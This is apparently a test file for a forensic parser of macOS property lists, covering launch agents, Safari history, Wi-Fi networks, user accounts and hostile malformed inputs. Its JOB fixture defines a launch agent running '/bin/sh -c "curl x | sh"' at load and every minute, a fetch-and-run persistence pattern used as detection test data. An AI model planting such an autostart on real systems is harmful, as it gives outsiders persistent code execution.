"""Property lists: what their keys say, and what hostile ones do."""

import plistlib
import random
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from tests.database_case import Read
from tests.fuzz.examine import read
from tracelake.parsers import plist
from tracelake.parsers.artifact import Match

JOB = {
    "Label": "com.example.agent", "ProgramArguments": ["/bin/sh", "-c", "curl x | sh"],
    "RunAtLoad": True, "StartInterval": 60,
}  # fmt: skip


def parse(value: Any, path: str = "x.plist", form: Any = plistlib.FMT_BINARY) -> Read:
    return Read(plist.PARSER, plistlib.dumps(value, fmt=form), path)


@pytest.mark.parametrize("form", [plistlib.FMT_BINARY, plistlib.FMT_XML])
def test_an_autostart(form: Any) -> None:
    done = parse(JOB, "Users/anna/Library/LaunchAgents/com.example.agent.plist", form)
    assert done.counts == {"artifact_query": 1}
    row = done.rows["artifact_query"][0]
    assert (row["class_uid"], row["artifact"]) == (5022, "launch_agent")
    assert row["cmd_line"] == '/bin/sh -c "curl x | sh"'
    assert (row["subject_name"], row["subject_path"]) == ("com.example.agent", "/bin/sh")
    assert (row["user_name"], row["detail"]) == ("anna", "RunAtLoad, StartInterval")
    assert row["unmapped"]["ProgramArguments[2]"] == "curl x | sh"
    daemon = parse(JOB | {"Program": "/bin/bash", "UserName": "root"}, "Library/LaunchDaemons/a")
    row = daemon.rows["artifact_query"][0]
    assert (row["artifact"], row["subject_path"]) == ("launch_daemon", "/bin/bash")
    assert (row["user_name"], row["cmd_line"]) == ("root", '/bin/bash -c "curl x | sh"')


def test_what_is_one() -> None:
    for head in (
        b"bplist00\xd1", b"<?xml version='1.0'?>\n<!DOCTYPE plist PUBLIC '-//Apple'",
        b"<plist version='1.0'>", b"<!-- a --><!-- b --><plist>",
        "<?xml version='1.0'?><plist>".encode("utf-16"),
    ):  # fmt: skip
        assert plist.match(head, "x")[0] is Match.CONTENT, head
    for head in (b"", b"<?xml version='1.0'?><Event>", b"<html><plist>", b"<!--" * 500):
        assert plist.match(head, "x.plist")[0] is Match.NO, head


def test_others_are_raw_events_with_all_that_they_hold() -> None:
    done = parse({"a": [{"b": b"\xff\0"}, True, 1.5], "d": datetime(2020, 1, 2, 3, 4, 5), "e": {}})
    assert done.counts == {"raw_event": 1}
    assert done.rows["raw_event"][0]["unmapped"] == {
        "a[0].b": "ff00", "a[1]": "true", "a[2]": "1.5", "d": "2020-01-02T03:04:05Z", "e": "",
    }  # fmt: skip


def test_safari_installations_networks_users() -> None:
    done = parse({"WebHistoryDates": [
        {"": "https://a.example/", "lastVisitedDate": "631152000.5", "visitCount": 2, "title": "A"},
        {"": "https://b.example/"},
    ]}, "Users/anna/Library/Safari/History.plist")  # fmt: skip
    first, second = done.rows["browser_activity"]
    assert first["time"] == datetime(2021, 1, 1, 0, 0, 0, 500000, UTC)
    assert (first["url_hostname"], first["visit_count"]) == ("a.example", 2)
    assert (second["time"], second["user_name"]) == (None, "anna")
    done = parse([{"date": datetime(2021, 1, 1), "displayName": "Tool", "displayVersion": "1",
                   "processName": "installer", "packageIdentifiers": ["a.b"]}])  # fmt: skip
    row = done.rows["artifact_query"][0]
    assert (row["class_uid"], row["subject_name"], row["time"].year) == (5020, "Tool", 2021)
    done = parse({"wifi.network.ssid.Cafe": {
        "SSID": b"Cafe", "AddedAt": datetime(2020, 1, 1), "UpdatedAt": datetime(2021, 1, 1),
    }})  # fmt: skip
    row = done.rows["artifact_query"][0]
    assert (row["subject_name"], row["time_desc"], row["time"].year) == ("Cafe", "UpdatedAt", 2021)
    done = parse({"ProductName": "macOS", "ProductVersion": "14.1", "ProductBuildVersion": "23B74"})
    row = done.rows["inventory"][0]
    assert (row["fact"], row["os_version"], row["os_build"]) == ("os", "14.1", "23B74")
    done = parse({"WebBookmarkType": "WebBookmarkTypeList", "Children": [
        {"Title": "Menu", "Children": [{"URLString": "http://c.example/", "URIDictionary":
                                        {"title": "C"}}]},
    ]})  # fmt: skip
    row = done.rows["browser_activity"][0]
    assert (row["record_type"], row["title"], row["unmapped"]["folder"]) == (
        "bookmark", "C", "/Menu",
    )  # fmt: skip


def test_a_user_without_the_secrets() -> None:
    policy = plistlib.dumps({"creationTime": 1609459200.0, "failedLoginTimestamp": 0})
    done = parse({
        "name": ["anna"], "uid": ["501"], "generateduid": ["G"], "home": ["/Users/anna"],
        "ShadowHashData": [b"\xde\xad\xbe\xef"], "accountPolicyData": [policy],
    })  # fmt: skip
    row = done.rows["inventory"][0]
    assert (row["fact"], row["user_name"], row["user_uid"]) == ("user", "anna", "501")
    assert row["account_created_time"] == row["time"] == datetime(2021, 1, 1, tzinfo=UTC)
    assert row["unmapped"]["secrets not shown"] == "ShadowHashData"
    assert not any("deadbeef" in value for value in row["unmapped"].values())


def binary(objects: list[bytes]) -> bytes:
    """A binary property list of these objects; the first is the top. References take a byte."""
    out = b"bplist00"
    offsets = []
    for each in objects:
        offsets.append(len(out))
        out += each
    table = len(out)
    out += b"".join(offset.to_bytes(4, "big") for offset in offsets)
    return out + bytes(6) + b"\4\1" + b"".join(
        n.to_bytes(8, "big") for n in (len(objects), 0, table)
    )  # fmt: skip


def test_objects_that_hold_themselves_or_multiply() -> None:
    itself = binary([b"\xa2\0\1", b"\x10\7"])
    done = Read(plist.PARSER, itself, "x")
    assert done.rows["raw_event"][0]["unmapped"] == {"[0]": "(not followed)", "[1]": "7"}
    # Twenty lists of fourteen times the next one: 14 to the power of 20.
    laughs = binary([b"\xae" + bytes([n + 1]) * 14 for n in range(20)] + [b"\x10\7"])
    # The same as entries of a list of a kind that gives a row for each.
    rows = binary([
        b"\xd1\1\2", b"\x5fDownloadHistory".replace(b"\x5f", b"\x5f\x10\x0f"),
        b"\xaf\x11\x01\x00" + b"\3" * 256, b"\xd1\4\5", b"\x51x",
        *[b"\xae" + bytes([n + 6]) * 14 for n in range(6)], b"\x10\7",
    ])  # fmt: skip
    started = time.monotonic()
    for data in (laughs, rows):
        done = Read(plist.PARSER, data, "x")
        assert done.account.closes
        assert done.stopped is not None
        assert "without end" in done.stopped.why
    assert time.monotonic() - started < 20
    deep = binary([bytes([0xA1, n + 1]) for n in range(200)] + [b"\x10\7"])
    assert Read(plist.PARSER, deep, "x").account.closes
    text = b"<plist>" + b"<array>" * 100_000 + b"</array>" * 100_000 + b"</plist>"
    assert Read(plist.PARSER, text, "x").account.closes
    entity = b'<!DOCTYPE plist [<!ENTITY a "b">]><plist><string>&a;</string></plist>'
    assert Read(plist.PARSER, entity, "x").stopped is not None


def test_cut_and_flipped() -> None:
    dice = random.Random(1)
    for form in (plistlib.FMT_BINARY, plistlib.FMT_XML):
        data = plistlib.dumps({"DownloadHistory": [JOB | {"DownloadEntryURL": "http://a/"}] * 3,
                               "d": datetime(2020, 1, 1)}, fmt=form)  # fmt: skip
        for at in range(len(data) + 1):
            read(plist.PARSER, data[:at], "cut", 4096, 1 << 16, completed=False)
        for _ in range(2000):
            flipped = bytearray(data)
            for _ in range(dice.randrange(1, 5)):
                flipped[dice.randrange(len(flipped))] = dice.randrange(256)
            read(plist.PARSER, bytes(flipped), "flip", 4096, 1 << 16, completed=False)


SAMPLES = {
    "triage/plaso/plist/Downloads.plist": {"browser_activity": 4},
    "triage/plaso/plist/launchd.plist": {"artifact_query": 1},
    "triage/plaso/plist/com.apple.TimeMachine.plist": {"raw_event": 1},
    "triage/plaso/ios/com.apple.MobileBackup.plist": {"raw_event": 1},
    "triage/plaso/ios/com.apple.commcenter.data.plist": {"raw_event": 1},
    "triage/velociraptor/com.apple.dock.plist": {"raw_event": 1},
    "triage/velociraptor/vagrant.plist": {"inventory": 1},
    "images/grr/History.plist": {"browser_activity": 2},
    "images/grr/parser_test/com.google.code.grr.plist": {"artifact_query": 1},
}


@pytest.mark.parametrize("path", SAMPLES)
def test_samples(path: str, shared: Path) -> None:
    done = Read(plist.PARSER, (shared / path).read_bytes(), path)
    assert done.counts == SAMPLES[path]
    assert done.stopped is None
    assert done.account.closes
    for row in done.rows.get("browser_activity", []):
        assert row["url"]
        assert row["time"].year in (2012, 2022)
